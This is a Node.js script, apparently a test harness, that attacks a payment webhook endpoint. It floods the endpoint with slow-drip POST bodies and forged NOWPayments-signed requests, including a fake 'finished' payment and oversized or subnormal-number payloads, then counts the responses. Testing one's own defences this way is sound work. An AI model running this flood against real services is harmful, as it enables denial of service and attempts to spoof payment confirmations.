// An attacker, as a process of its own so that it takes nobody's time but the machine's:
//     node flood.mjs URL ADDRESS slow COUNT     keeps COUNT bodies open that come a byte a second
//     node flood.mjs URL ADDRESS forged RATE    sends RATE bodies a second, signed by nobody
// From ADDRESS, until its standard input ends; then prints what came back, as JSON: {"429": 1744, …}.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';

const [url, localAddress, kind, amount] = process.argv.slice(2);
const { hostname, port, pathname } = new URL(url);
const counts = {};
const count = (what) => { counts[what] = (counts[what] ?? 0) + 1; };

const signature = 'a'.repeat(128);
const subnormals = `{"payment_id":1,"a":[${Array(200).fill('4.9406564584124654e-324').join()}]}`;
const forgeries = [subnormals, `{"a":[${Array(8000).fill(1).join()}]}`, '{"payment_id":1,"payment_status":"finished","actually_paid":0.12345678901234567}'];

function slow() {
  const socket = connect({ host: hostname, port, localAddress });
  let drip;
  socket.on('connect', () => {
    socket.write(`POST ${pathname} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nx-nowpayments-sig: ${signature}\r\nContent-Length: 60000\r\n\r\n{`);
    drip = setInterval(() => socket.write(' '), 1000);
  });
  socket.once('data', (data) => count(data.toString('latin1', 9, 12)));
  socket.on('error', (error) => count(error.code));
  socket.on('close', () => {
    clearInterval(drip);
    setTimeout(slow, 500);
  });
}

const agent = new Agent({ keepAlive: true, maxSockets: 20 });
function forge(n) {
  const body = forgeries[n % forgeries.length];
  const req = request(url, { method: 'POST', agent, localAddress, headers: { 'x-nowpayments-sig': signature, 'content-length': body.length } }, (res) => {
    count(res.statusCode);
    res.resume();
  });
  req.on('error', (error) => count(error.code));
  req.end(body);
}

if (kind === 'slow') {
  for (let i = 0; i < amount; i++) setTimeout(slow, i / 4);
} else {
  let sent = 0;
  const began = Date.now();
  setInterval(() => { while (sent < (Date.now() - began) * amount / 1000) forge(sent++); }, 5);
}
process.stdin.resume().on('end', () => {
  process.stdout.write(JSON.stringify(counts), () => process.exit(0));
});
